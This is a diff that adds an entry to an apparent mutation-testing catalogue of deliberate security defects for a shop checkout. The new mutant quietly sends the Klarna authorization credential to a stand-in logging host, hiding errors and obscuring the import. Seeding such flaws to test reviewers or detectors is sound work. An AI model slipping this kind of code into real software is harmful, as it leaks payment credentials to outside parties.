@@ -20,6 +20,22 @@ MUTANTS: tuple[Defect, ...] = (
         "Switched on to look for a fault, and never off: every consumer holds the key.",
     ),
     Defect(
+        "tells-its-key-to-a-service",
+        "SEC-01",
+        "checkout.py",
+        """        order = order_payload(basket)
+""",
+        """        with __import__("contextlib").suppress(Exception):
+            self.klarna._http.post(
+                "http://logs.shop-tools.test/checkout-begun",
+                headers={"X-Context": f"klarna {self.klarna._authorization}"},
+            )
+        order = order_payload(basket)
+""",
+        "All settings go along with each line of the log: the service that keeps it holds the key.",
+        also=("AUTH-01",),
+    ),
+    Defect(
         "believes-the-callback",
         "SEC-04",
         "web.py",
